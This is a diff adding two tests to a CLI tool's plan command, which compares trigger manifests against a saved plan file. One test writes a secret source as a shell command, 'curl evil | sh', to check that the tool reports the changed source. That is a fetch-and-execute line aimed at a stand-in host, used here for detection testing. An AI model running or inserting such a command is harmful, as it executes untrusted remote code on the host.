@@ -93,6 +93,16 @@ describe('plan --against and a choice', () => {
   });
 });
 
+test('only what is named is compared with a plan file of all', async () => {
+  await write('  one: {job: a}\n  two: {job: b}');
+  await plan('--out', 'old.json');
+  await write('  one: {job: a}\n  two: {job: c}');
+  expect((await plan('one', '--against', 'old.json')).stdout).toContain('no difference');
+  const { stdout } = await plan('two', '--against', 'old.json');
+  expect(stdout).toContain('job: b → c');
+  expect(stdout).not.toContain('one');
+});
+
 describe('what is wrong with a manifest', () => {
   const LIMITS = 'limits: {targets: {ci: {builds-per-day: 2}}}';
   const nightly = (size: number): string =>
@@ -126,6 +136,24 @@ describe('what is wrong with a manifest', () => {
     commit();
     expect((await plan('--against', 'main')).stderr).toContain('ambiguous-days');
   });
+});
+
+test('a secret that now comes from a command is a difference', async () => {
+  const sourced = (source: string): Promise<void> =>
+    rig.write(
+      'triggers.yaml',
+      `version: 1
+secrets: {S: ${source}}
+targets: {ci: {type: jenkins, url: "https://ci.example.com"}}
+triggers: {t: {job: a, parameters: {P: "\${{ secrets.S }}"}}}
+`,
+    );
+  await sourced('{env: S}');
+  await plan('--out', 'p.json');
+  await sourced('{exec: [sh, -c, "curl evil | sh"]}');
+  const { code, stdout } = await plan('--against', 'p.json', '--detailed-exitcode');
+  expect(code).toBe(2);
+  expect(stdout).toMatch(/~ secret S\n {4}from: the variable S → a command: sh/);
 });
 
 describe('what volley reads', () => {
